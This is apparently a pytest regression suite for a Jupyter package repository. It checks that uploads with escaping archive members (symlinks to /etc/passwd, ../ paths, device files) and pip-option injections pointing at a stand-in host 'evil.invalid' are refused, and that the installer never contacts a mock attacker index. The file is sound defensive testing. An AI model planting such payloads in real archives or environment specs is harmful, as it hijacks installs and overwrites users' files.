"""Regression tests of the security review's inspection findings (issue 15: 11 and 12).

Finding 11: an environment spec could carry pip options (``--index-url``, ``-e git+...``, a
line break inside an ``environment.yml`` pip entry, ...) or URLs, so that installing the
environment left the owner's index for an attacker's. Finding 12: archives could hold
members or links that land outside the folder they are unpacked into.

Each attack is performed as the review did: uploaded over real HTTP to the session's server
(``PUT /api/upload/...``), once per archive type and spelling, each with its own test id.
Each must be refused with a 400 that names the member or the line, and nothing stored may
change (no package, release, file, blob, stored key or spool left behind). The installer
tests store an environment with option lines behind the upload check's back and show that
the installer refuses it before pip runs: a recording HTTP server standing in for the
attacker's index is never contacted.
"""

from __future__ import annotations

import json
import sys
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import requests

from jupyter_repo.client import errors
from jupyter_repo.client.api import RepoClient
from jupyter_repo.client.envdiff import EnvironmentLock, compute_plan
from jupyter_repo.client.environment import capture_interpreter
from jupyter_repo.client.install import Installer, InstallSpec, Target
from jupyter_repo.client.publish import Destination, Publisher
from jupyter_repo.repository.inspect import Inspection
from jupyter_repo.repository.services import uploads
from tests.support import archives, processes
from tests.support.archives import Member
from tests.support.environments import isolate_pip, make_venv, pip_environment
from tests.support.http import auth, upload
from tests.support.server import RepoServer
from tests.support.state import snapshot, unchanged

EVIL = "evil.invalid"


@dataclass
class Owner:
    login: str
    token: str


@pytest.fixture(scope="module")
def owner(server: RepoServer) -> Owner:
    login = server.create_user(f"insp{uuid.uuid4().hex[:8]}")
    return Owner(login, server.token(login))


def _fresh_name() -> str:
    return f"x{uuid.uuid4().hex[:10]}"


def _assert_refused(
    server: RepoServer,
    owner: Owner,
    response: requests.Response,
    package: str,
    before: object,
    *named: str,
) -> str:
    """400, the error names what was refused, and nothing stored changed."""
    assert response.status_code == 400, response.text
    error = response.json()["error"]
    for text in named:
        assert text in error, (text, error)
    assert unchanged(before, snapshot(server))  # type: ignore[arg-type]
    missing = requests.get(
        f"{server.api}/package/{owner.login}/{package}", headers=auth(owner.token), timeout=30
    )
    assert missing.status_code == 404, missing.text
    return error


# -- finding 12: archive members and links that escape ---------------------------------------


@dataclass(frozen=True)
class ArchiveType:
    kinds: frozenset[str]
    type: str
    build: Callable[[Path, str, list[Member]], Path]
    conda: bool = False

    def basename(self, path: Path) -> str:
        return f"noarch/{path.name}" if self.conda else path.name


ARCHIVES = {
    "conda-payload": ArchiveType(
        frozenset(archives.TAR_KINDS),
        "conda",
        lambda d, n, m: archives.conda(d, n, "1.0", m, where="pkg"),
        conda=True,
    ),
    "conda-info-tar": ArchiveType(
        frozenset(archives.TAR_KINDS),
        "conda",
        lambda d, n, m: archives.conda(d, n, "1.0", m, where="info"),
        conda=True,
    ),
    "conda-outer-zip": ArchiveType(
        frozenset(archives.ZIP_KINDS),
        "conda",
        lambda d, n, m: archives.conda(d, n, "1.0", m, where="zip"),
        conda=True,
    ),
    "conda-tar-bz2": ArchiveType(
        frozenset(archives.TAR_KINDS),
        "conda",
        lambda d, n, m: archives.conda(d, n, "1.0", m, where="bz2"),
        conda=True,
    ),
    "wheel": ArchiveType(
        frozenset(archives.ZIP_KINDS), "pypi", lambda d, n, m: archives.wheel(d, n, "1.0", m)
    ),
    "sdist-tar-gz": ArchiveType(
        frozenset(archives.TAR_KINDS), "pypi", lambda d, n, m: archives.sdist(d, n, "1.0", m)
    ),
    "sdist-zip": ArchiveType(
        frozenset(archives.ZIP_KINDS),
        "pypi",
        lambda d, n, m: archives.sdist(d, n, "1.0", m, fmt=".zip"),
    ),
    "project-zip": ArchiveType(
        frozenset(archives.ZIP_KINDS),
        "project",
        lambda d, n, m: archives.project(d, n, m, fmt=".zip"),
    ),
    "project-tar-gz": ArchiveType(
        frozenset(archives.TAR_KINDS), "project", lambda d, n, m: archives.project(d, n, m)
    ),
    "project-tar": ArchiveType(
        frozenset(archives.TAR_KINDS),
        "project",
        lambda d, n, m: archives.project(d, n, m, fmt=".tar"),
    ),
}

#: id: (the members planted, the member the error must name)
ESCAPES: dict[str, tuple[list[Member], str]] = {
    "dotdot": ([Member("../../x")], "../../x"),
    "dotdot-inside-path": ([Member("lib/../../../tmp/x")], "lib/../../../tmp/x"),
    "absolute": ([Member("/tmp/x")], "/tmp/x"),
    "absolute-dir": ([Member("/etc/cron.d", "dir")], "/etc/cron.d"),
    "backslash": ([Member("..\\..\\x")], "..\\..\\x"),
    "nul": ([Member("a\x00/../../x")], "a\x00/../../x"),
    "drive-letter": ([Member("C:/Windows/x")], "C:/Windows/x"),
    "drive-relative": ([Member("C:x")], "C:x"),
    "symlink-absolute": ([Member("lib/libz.so", "symlink", "/etc/passwd")], "lib/libz.so"),
    "symlink-dotdot": ([Member("a/b", "symlink", "../../x")], "a/b"),
    "symlink-parent-of-root": ([Member("up", "symlink", "..")], "up"),
    "symlink-backslash": ([Member("lib/x", "symlink", "..\\..\\x")], "lib/x"),
    "symlink-nul": ([Member("lib/x", "symlink", "y\x00/../../../x")], "lib/x"),
    "symlink-drive": ([Member("lib/x", "symlink", "C:/x")], "lib/x"),
    "symlink-chain": (
        [Member("d/l1", "symlink", ".."), Member("l2", "symlink", "d/l1/../x")],
        "l2",
    ),
    "symlink-chain-later-link": (
        [Member("l2", "symlink", "d/l1/../x"), Member("d/l1", "symlink", "..")],
        "l2",
    ),
    "symlink-loop": ([Member("a", "symlink", "b"), Member("b", "symlink", "a")], "b"),
    "member-shadowed-by-link": ([Member("lib/z"), Member("lib/z", "symlink", "y")], "lib/z"),
    "overlong-name": ([Member("d/" * 2100 + "x")], "d/" * 2100 + "x"),
    "symlink-overlong-target": ([Member("lib/x", "symlink", "d/" * 2100 + "x")], "lib/x"),
    "symlink-chain-past-40-links": (
        [Member(f"l{index}", "symlink", f"l{index - 1}" if index else "x") for index in range(45)],
        "l41",
    ),
    # tar only
    "hardlink-dotdot": ([Member("h", "hardlink", "../../etc/passwd")], "h"),
    "hardlink-absolute": ([Member("h", "hardlink", "/etc/passwd")], "h"),
    "device-file": ([Member("dev/mem", "device")], "dev/mem"),
    # zip only: names in the other places a zip tool may read them from
    "zip-local-header-name": ([Member("zzzzzzz", "local-name", "../../x")], "../../x"),
    "zip-unicode-path-field": (
        [Member("safe.txt", "unicode-path", "../../../evil")],
        "../../../evil",
    ),
}

ESCAPE_CASES = [
    (archive, attack)
    for archive, kind in ARCHIVES.items()
    for attack, (members, _named) in ESCAPES.items()
    if {member.kind for member in members} <= kind.kinds
]


@pytest.mark.parametrize(
    "archive, attack", ESCAPE_CASES, ids=[f"{archive}-{attack}" for archive, attack in ESCAPE_CASES]
)
def test_finding_12_escaping_members_and_links_are_refused(
    server: RepoServer, owner: Owner, tmp_path: Path, archive: str, attack: str
) -> None:
    members, named = ESCAPES[attack]
    kind = ARCHIVES[archive]
    name = _fresh_name()
    path = kind.build(tmp_path, name, members)
    before = snapshot(server)
    response = upload(
        server.api, owner.token, owner.login, name, "1.0", kind.basename(path), path, type=kind.type
    )
    error = _assert_refused(server, owner, response, name, before, repr(named[:200]))
    assert "archive member" in error and path.name in error, error


def test_link_resolution_is_bounded(server: RepoServer, owner: Owner, tmp_path: Path) -> None:
    """Links whose resolution would take millions of steps are refused quickly (413), not
    walked: 1,200 links each 2,000 folders deep (a 30 KB upload)."""
    deep = "/".join(["d"] * 2000)
    members = [Member(f"{index}/l", "symlink", f"../{deep}") for index in range(1200)]
    name = _fresh_name()
    path = archives.project(tmp_path, name, members)
    assert path.stat().st_size < 100_000
    before = snapshot(server)
    started = time.monotonic()
    response = upload(
        server.api, owner.token, owner.login, name, "1", path.name, path, type="project"
    )
    assert time.monotonic() - started < 30
    assert response.status_code == 413, response.text
    assert "steps to resolve" in response.json()["error"]
    assert unchanged(before, snapshot(server))


def _inside_links(top: str, *, hardlinks: bool) -> list[Member]:
    """What real packages hold: relative links that stay inside, some to files another
    package provides (dangling here), ``./`` names, folders, hard links between members."""
    prefix = f"{top}/" if top else ""
    members = [
        Member(f"{prefix}lib/libfoo.so.1.2", data=b"\x7fELF"),
        Member(f"{prefix}lib/libfoo.so.1", "symlink", "libfoo.so.1.2"),
        Member(f"{prefix}lib/libfoo.so", "symlink", "libfoo.so.1"),
        Member(f"{prefix}bin/tool", "symlink", "../lib/libfoo.so"),
        Member(f"{prefix}bin/python", "symlink", "python3.11"),
        Member(f"{prefix}share/doc", "dir"),
        Member(f"{prefix}share/doc/top", "symlink", "../.."),
        Member(f"./{prefix}share/doc/README", data=b"read me\n"),
        Member(f"{prefix}etc/alias", "symlink", "./../share/./doc/README"),
    ]
    if hardlinks:
        members.append(
            Member(f"{prefix}lib/libfoo-copy.so", "hardlink", f"{prefix}lib/libfoo.so.1.2")
        )
    return members


LEGIT = [
    "conda-payload",
    "conda-tar-bz2",
    "wheel",
    "sdist-tar-gz",
    "sdist-zip",
    "project-zip",
    "project-tar-gz",
    "project-tar",
]


@pytest.mark.parametrize("archive", LEGIT)
def test_links_that_stay_inside_are_accepted(
    server: RepoServer, owner: Owner, tmp_path: Path, archive: str
) -> None:
    """The refusals above are about escaping, not about links: real packages keep working."""
    kind = ARCHIVES[archive]
    name = _fresh_name()
    top = {"sdist-tar-gz": f"{name}-1.0", "sdist-zip": f"{name}-1.0"}.get(
        archive, name if archive.startswith("project") else ""
    )
    members = _inside_links(top, hardlinks="hardlink" in kind.kinds)
    path = kind.build(tmp_path, name, members)
    response = upload(
        server.api, owner.token, owner.login, name, "1.0", kind.basename(path), path, type=kind.type
    )
    assert response.status_code == 201, response.text
    download = requests.get(
        f"{server.api}/download/{owner.login}/{name}/1.0/{kind.basename(path)}",
        headers=auth(owner.token),
        timeout=30,
    )
    assert download.status_code == 200 and download.content == path.read_bytes()


# -- finding 11: pip options in environment specs --------------------------------------------

#: id: (the pip line, the text the error must quote)
SPELLINGS: dict[str, tuple[str, str]] = {
    "index-url": (f"--index-url http://{EVIL}/simple", f"http://{EVIL}/simple"),
    "index-url-equals": (f"--index-url=http://{EVIL}/simple", f"http://{EVIL}/simple"),
    "i": (f"-i http://{EVIL}/simple", f"http://{EVIL}/simple"),
    "i-joined": (f"-ihttp://{EVIL}/simple", f"http://{EVIL}/simple"),
    "extra-index-url": (f"--extra-index-url http://{EVIL}/simple", f"http://{EVIL}/simple"),
    "f": (f"-f http://{EVIL}/links", f"http://{EVIL}/links"),
    "find-links": (f"--find-links=http://{EVIL}/links", f"http://{EVIL}/links"),
    "trusted-host": (f"--trusted-host {EVIL}", EVIL),
    "c": (f"-c http://{EVIL}/constraints.txt", f"http://{EVIL}/constraints.txt"),
    "r": (f"-r http://{EVIL}/more.txt", f"http://{EVIL}/more.txt"),
    "e": (f"-e git+http://{EVIL}/x.git#egg=x", f"git+http://{EVIL}/x.git"),
    "editable": (f"--editable=git+http://{EVIL}/x.git#egg=x", f"git+http://{EVIL}/x.git"),
    "no-index": ("--no-index", "--no-index"),
    "after-requirement": (
        f"requests==2.31.0 --extra-index-url http://{EVIL}/simple",
        f"http://{EVIL}/simple",
    ),
    "after-requirement-short": (
        f"requests==2.31.0 -i http://{EVIL}/simple",
        f"http://{EVIL}/simple",
    ),
    "leading-spaces": (f"    --index-url http://{EVIL}/simple", f"http://{EVIL}/simple"),
    "leading-tab": (f"\t--index-url http://{EVIL}/simple", f"http://{EVIL}/simple"),
    "inside-marker": (
        f"x; os_name == ' --index-url http://{EVIL}/simple'",
        f"http://{EVIL}/simple",
    ),
    "line-break-lf": (
        f"requests==2.31.0\n--extra-index-url http://{EVIL}/simple",
        f"http://{EVIL}/simple",
    ),
    "line-break-cr": (
        f"requests==2.31.0\r--extra-index-url http://{EVIL}/simple",
        f"http://{EVIL}/simple",
    ),
    "line-break-crlf": (
        f"requests==2.31.0\r\n--extra-index-url http://{EVIL}/simple",
        f"http://{EVIL}/simple",
    ),
    "line-break-vt": (
        f"requests==2.31.0\x0b--extra-index-url http://{EVIL}/simple",
        f"http://{EVIL}/simple",
    ),
    "line-break-nel": (
        f"requests==2.31.0\x85--extra-index-url http://{EVIL}/simple",
        f"http://{EVIL}/simple",
    ),
    "line-break-u2028": (
        f"requests==2.31.0\u2028--extra-index-url http://{EVIL}/simple",
        f"http://{EVIL}/simple",
    ),
    "continuation": (
        f"requests==2.31.0 \\\n  --extra-index-url http://{EVIL}/simple",
        f"http://{EVIL}/simple",
    ),
    "direct-url": (f"x @ http://{EVIL}/x-1.0-py3-none-any.whl", f"http://{EVIL}/x-1.0"),
    "direct-file-url": ("x @ file:///tmp/x-1.0-py3-none-any.whl", "file:///tmp/x-1.0"),
    "direct-git-url": (f"x @ git+https://{EVIL}/x.git@main", f"git+https://{EVIL}/x.git"),
    "bare-git-url": (f"git+https://{EVIL}/x.git", f"git+https://{EVIL}/x.git"),
    "bare-url": (f"https://{EVIL}/x-1.0-py3-none-any.whl", f"https://{EVIL}/x-1.0"),
    "local-path": ("./vendored/x", "./vendored/x"),
    "absolute-path": ("/tmp/x-1.0-py3-none-any.whl", "/tmp/x-1.0"),
    "archive-name": ("x-1.0-py3-none-any.whl", "x-1.0-py3-none-any.whl"),
    "environment-variable": ("x==1.0; os_name == '${PIP_INDEX_URL}'", "${PIP_INDEX_URL}"),
}


def _yaml_list_item(text: str) -> str:
    return json.dumps(text)  # a YAML double-quoted scalar: every escape survives


def _environment_yml(line: str) -> bytes:
    return (
        "name: planted\nchannels:\n  - conda-forge\ndependencies:\n  - python=3.11\n"
        f"  - pip\n  - pip:\n    - requests==2.31.0\n    - {_yaml_list_item(line)}\n"
    ).encode()


def _requirements_txt(line: str) -> bytes:
    return f"# pinned\nrequests==2.31.0\n{line}\nnumpy>=1.26  # arrays\n".encode()


def _anaconda_project(line: str) -> bytes:
    return (
        f"name: planted\npackages:\n  - python=3.11\n  - pip:\n    - {_yaml_list_item(line)}\n"
    ).encode()


@dataclass(frozen=True)
class SpecFormat:
    basename: str
    type: str
    write: Callable[[Path, str, str], Path]
    #: the name of the spec file the error must mention
    spec_file: str


def _plain(filename: str, content: Callable[[str], bytes]) -> Callable[[Path, str, str], Path]:
    def write(directory: Path, _name: str, line: str) -> Path:
        path = directory / filename
        path.write_bytes(content(line))
        return path

    return write


def _in_project(
    filename: str, content: Callable[[str], bytes], fmt: str
) -> Callable[[Path, str, str], Path]:
    def write(directory: Path, name: str, line: str) -> Path:
        return archives.project(
            directory,
            name,
            [],
            fmt=fmt,
            files={f"{name}/{filename}": content(line), f"{name}/analysis.py": b"print(1)\n"},
        )

    return write


SPEC_FORMATS = {
    "environment-yml": SpecFormat(
        "environment.yml", "env", _plain("environment.yml", _environment_yml), "environment.yml"
    ),
    "requirements-txt": SpecFormat(
        "requirements.txt", "env", _plain("requirements.txt", _requirements_txt), "requirements.txt"
    ),
    "requirements-in": SpecFormat(
        "requirements.in", "env", _plain("requirements.in", _requirements_txt), "requirements.in"
    ),
    "project-environment-yml": SpecFormat(
        "{name}.tar.gz",
        "project",
        _in_project("environment.yml", _environment_yml, ".tar.gz"),
        "environment.yml",
    ),
    "project-requirements-txt": SpecFormat(
        "{name}.zip",
        "project",
        _in_project("requirements.txt", _requirements_txt, ".zip"),
        "requirements.txt",
    ),
    "project-anaconda-project-yml": SpecFormat(
        "{name}.tar",
        "project",
        _in_project("anaconda-project.yml", _anaconda_project, ".tar"),
        "anaconda-project.yml",
    ),
}

SPEC_CASES = [(spec_format, spelling) for spec_format in SPEC_FORMATS for spelling in SPELLINGS]


@pytest.mark.parametrize(
    "spec_format, spelling", SPEC_CASES, ids=[f"{spec}-{spelling}" for spec, spelling in SPEC_CASES]
)
def test_finding_11_pip_options_in_environment_specs_are_refused(
    server: RepoServer, owner: Owner, tmp_path: Path, spec_format: str, spelling: str
) -> None:
    line, quoted = SPELLINGS[spelling]
    spec = SPEC_FORMATS[spec_format]
    name = _fresh_name()
    path = spec.write(tmp_path, name, line)
    before = snapshot(server)
    response = upload(
        server.api,
        owner.token,
        owner.login,
        name,
        "1",
        spec.basename.format(name=name),
        path,
        type=spec.type,
    )
    _assert_refused(server, owner, response, name, before, quoted, spec.spec_file)


#: Conda parts of a spec cannot smuggle lines either. id: (environment.yml or lock, quoted)
CONDA_SMUGGLING = {
    "dependency-line-break": (
        'dependencies:\n  - "numpy\\n  - --override-channels"\n',
        "--override-channels",
    ),
    "dependency-option": ("dependencies:\n  - --override-channels\n", "--override-channels"),
    "channel-line-break": (
        f'channels:\n  - "conda-forge\\nhttp://{EVIL}/channel"\ndependencies:\n  - numpy\n',
        EVIL,
    ),
    "explicit-option-line": (f"@EXPLICIT\n-e git+http://{EVIL}/x.git\n", EVIL),
    "explicit-url-then-option": (
        f"@EXPLICIT\nhttps://{EVIL}/noarch/x-1-0.conda --index-url http://{EVIL}/simple\n",
        EVIL,
    ),
}


@pytest.mark.parametrize("case", list(CONDA_SMUGGLING))
def test_finding_11_conda_parts_of_specs_hold_one_item_a_line(
    server: RepoServer, owner: Owner, case: str
) -> None:
    content, quoted = CONDA_SMUGGLING[case]
    basename = "conda-explicit.txt" if content.startswith("@EXPLICIT") else "environment.yml"
    name = _fresh_name()
    before = snapshot(server)
    response = upload(
        server.api, owner.token, owner.login, name, "1", basename, content.encode(), type="env"
    )
    _assert_refused(server, owner, response, name, before, quoted, basename)


def test_real_world_specs_are_accepted(server: RepoServer, owner: Owner) -> None:
    """pip-compile's hashed output, markers, extras, ``===`` pins and ``-`` inside names and
    versions are requirements: they pass, and the hashes are not what is indexed."""
    digest = "a" * 64
    requirements = (
        "#\n# This file is autogenerated by pip-compile\n#\n"
        f"requests[socks]==2.31.0 \\\n    --hash=sha256:{digest} \\\n"
        f"    --hash=sha256:{'b' * 64}\n    # via -r requirements.in\n"
        'typing-extensions==4.12.2 ; python_version < "3.13"\n'
        "legacy-thing===1.0-custom\n"
        "scikit-learn>=1.4,<2\n"
    )
    name = _fresh_name()
    response = upload(
        server.api,
        owner.token,
        owner.login,
        name,
        "1",
        "requirements.txt",
        requirements.encode(),
        type="env",
    )
    assert response.status_code == 201, response.text
    files = requests.get(
        f"{server.api}/package/{owner.login}/{name}", headers=auth(owner.token), timeout=30
    ).json()["files"]
    assert files[0]["dependencies"]["pip"] == [
        "requests[socks]==2.31.0",
        'typing-extensions==4.12.2 ; python_version < "3.13"',
        "legacy-thing===1.0-custom",
        "scikit-learn>=1.4,<2",
    ]


# -- the installer never hands a spec's option lines to pip ----------------------------------


class _Recorder(BaseHTTPRequestHandler):
    seen: list[str]

    def do_GET(self) -> None:
        self.server.seen.append(self.path)  # type: ignore[attr-defined]
        self.send_response(404)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *_args: object) -> None:
        pass


@pytest.fixture
def attacker() -> Iterator[tuple[str, list[str]]]:
    """An index on 127.0.0.1 that records every request it gets: (its URL, the requests)."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    server.seen = []  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", server.seen  # type: ignore[attr-defined]
    finally:
        server.shutdown()
        server.server_close()


def _store_unchecked(
    server: RepoServer,
    owner: Owner,
    name: str,
    files: dict[str, str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Store spec files through the upload service with its inspection switched off, as a
    repository written by an older version (or by hand) may hold them."""

    def permissive(_path: Path, kind: str, _filename: str, _limits: object) -> Inspection:
        return Inspection(
            distribution_type=kind,
            attrs={"format": "unchecked"},
            dependencies={"conda": [], "pip": []},
            summary="unchecked",
        )

    with monkeypatch.context() as patched:
        patched.setattr(uploads, "inspect_file", permissive)
        for basename, content in files.items():
            path = tmp_path / basename
            path.write_text(content, encoding="utf-8")
            uploads.ingest_local_file(
                server.repo,
                server.actor(owner.login),
                owner.login,
                name,
                "1",
                basename,
                path,
                uploads.DirectOptions(distribution_type="env"),
            )


def _unchecked_specs(index: str) -> dict[str, dict[str, str]]:
    return {
        "requirements-index-url": {
            "requirements.txt": f"--index-url {index}/simple\nplanted-pkg==1.0\n"
        },
        "requirements-after-requirement": {
            "requirements.txt": f"planted-pkg==1.0 --extra-index-url {index}/simple\n"
        },
        "requirements-direct-url": {
            "requirements.txt": f"planted-pkg @ {index}/planted_pkg-1.0-py3-none-any.whl\n"
        },
        "environment-yml-line-break": {
            "environment.yml": "dependencies:\n  - pip:\n    - "
            + json.dumps(f"planted-pkg==1.0\n--find-links {index}/links")
            + "\n"
        },
        "environment-yml-editable": {
            "environment.yml": "dependencies:\n  - pip:\n    - "
            + json.dumps(f"-e git+{index}/x.git#egg=planted-pkg")
            + "\n"
        },
    }


UNCHECKED = list(_unchecked_specs("http://x"))


@pytest.mark.parametrize("case", UNCHECKED)
def test_finding_11_installer_refuses_option_lines_of_a_stored_environment(
    server: RepoServer,
    owner: Owner,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    attacker: tuple[str, list[str]],
    case: str,
) -> None:
    index, seen = attacker
    isolate_pip(monkeypatch)
    name = _fresh_name()
    _store_unchecked(server, owner, name, _unchecked_specs(index)[case], tmp_path, monkeypatch)
    venv = make_venv(tmp_path / "venv", [])
    lines: list[str] = []
    installer = Installer(
        RepoClient(server.url, owner.token),
        Target.of_interpreter(str(venv / "bin" / "python")),
        log=lines.append,
        pypi_fallback=False,
    )
    with pytest.raises(errors.InstallError, match=r"127\.0\.0\.1"):
        installer.install(InstallSpec(owner.login, name))  # the CLI's and extension's way
    with pytest.raises(errors.InstallError, match=r"127\.0\.0\.1"):
        installer.plan_environment(owner.login, name)  # the widget's way
    assert seen == []
    assert not any(line.startswith(("Collecting", "Looking in")) for line in lines), lines


def test_installer_guard_holds_for_a_plan_built_by_hand(
    server: RepoServer,
    owner: Owner,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    attacker: tuple[str, list[str]],
) -> None:
    """The last check before pip: even a lock that did not come from a parsed spec file
    cannot put an option line into the requirements file pip reads."""
    index, seen = attacker
    isolate_pip(monkeypatch)
    venv = make_venv(tmp_path / "venv", [])
    target = Target.of_interpreter(str(venv / "bin" / "python"))
    installer = Installer(RepoClient(server.url, owner.token), target, pypi_fallback=False)
    lock = EnvironmentLock(
        owner.login,
        "hand-made",
        "1",
        "requirements.txt",
        [],
        [f"--extra-index-url {index}/simple", "planted-pkg"],
    )
    plan = compute_plan(lock, installer.capture_target())
    with pytest.raises(errors.InstallError, match="is a pip option"):
        installer.apply_plan(plan)
    assert seen == []


def test_the_attacker_index_would_have_noticed(
    attacker: tuple[str, list[str]], tmp_path: Path
) -> None:
    """The recording index is reachable: pip given the option line does contact it (so the
    empty records above mean pip never was)."""
    index, seen = attacker
    completed = processes.run(
        [
            sys.executable,
            "-m",
            "pip",
            "download",
            "--no-deps",
            "--retries",
            "0",
            "--dest",
            str(tmp_path),
            "--index-url",
            f"{index}/simple",
            "planted-pkg==1.0",
        ],
        capture_output=True,
        text=True,
        timeout=120,
        env=pip_environment(),
        check=False,
    )
    assert completed.returncode != 0
    assert any(path.startswith("/simple/planted-pkg") for path in seen), (seen, completed)


# -- what `jupyter repo publish env` captures still publishes ---------------------------------

TINY_BACKEND = '''"""A PEP 660 backend without dependencies: the editable wheel is a .pth file."""
import base64, hashlib, os, zipfile

NAME, VERSION = "localpkg", "0.1.0"
DIST = f"{NAME}-{VERSION}.dist-info"


def _record(path, data):
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return f"{path},sha256={digest},{len(data)}"


def build_editable(wheel_directory, config_settings=None, metadata_directory=None):
    here = os.path.abspath(os.path.dirname(__file__))
    files = {
        f"__editable__.{NAME}.pth": (here + "\\n").encode(),
        f"{DIST}/METADATA": (
            f"Metadata-Version: 2.1\\nName: {NAME}\\nVersion: {VERSION}\\n".encode()),
        f"{DIST}/WHEEL": b"Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
    }
    records = [_record(path, data) for path, data in files.items()] + [f"{DIST}/RECORD,,"]
    files[f"{DIST}/RECORD"] = ("\\n".join(records) + "\\n").encode()
    name = f"{NAME}-{VERSION}-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as archive:
        for path, data in files.items():
            archive.writestr(path, data)
    return name
'''


def test_captured_environment_with_an_editable_install_publishes(
    server: RepoServer, owner: Owner, tmp_path: Path
) -> None:
    """A kernel environment with a package installed by ``pip install -e`` (recorded with
    a ``file://`` direct URL) and one whose metadata is no valid requirement is captured
    into specs the repository accepts: the editable one pinned by its version, the other
    left out (noted in a comment), no URL and no option anywhere."""
    project = tmp_path / "localpkg-src"
    (project / "localpkg").mkdir(parents=True)
    (project / "localpkg" / "__init__.py").write_text("VALUE = 1\n")
    (project / "tiny_backend.py").write_text(TINY_BACKEND)
    (project / "pyproject.toml").write_text(
        '[build-system]\nrequires = []\nbuild-backend = "tiny_backend"\nbackend-path = ["."]\n'
    )
    venv = make_venv(tmp_path / "kernel-env", [])
    python = str(venv / "bin" / "python")
    processes.run(
        [
            sys.executable,
            "-m",
            "pip",
            "--python",
            python,
            "install",
            "--quiet",
            "--no-index",
            "--no-build-isolation",
            "-e",
            str(project),
        ],
        check=True,
        env=pip_environment(),
    )
    site = next((venv / "lib").glob("python*/site-packages"))
    bogus = site / "bogus-1.0.dist-info"
    bogus.mkdir()
    (bogus / "METADATA").write_text(
        f"Metadata-Version: 2.1\nName: bogus\nVersion: 1.0 --index-url http://{EVIL}/simple\n"
    )

    captured = capture_interpreter(python)
    editable = next(item for item in captured.pip if item["name"] == "localpkg")
    assert editable["editable"] and editable["direct_url"].startswith("file://")
    files = captured.files("kernel-env")
    assert "localpkg==0.1.0" in files["requirements.txt"].splitlines()
    assert EVIL not in "".join(files.values())
    assert "1 installed distribution(s) left out" in files["requirements.txt"]

    name = _fresh_name()
    published = Publisher(RepoClient(server.url, owner.token)).publish_environment(
        captured, Destination(owner.login, name, "1"), default_name=name
    )
    assert published.version == "1"
    listed = requests.get(
        f"{server.api}/package/{owner.login}/{name}", headers=auth(owner.token), timeout=30
    ).json()["files"]
    assert {item["basename"] for item in listed} == {"environment.yml", "requirements.txt"}
    assert all("localpkg==0.1.0" in item["dependencies"]["pip"] for item in listed)
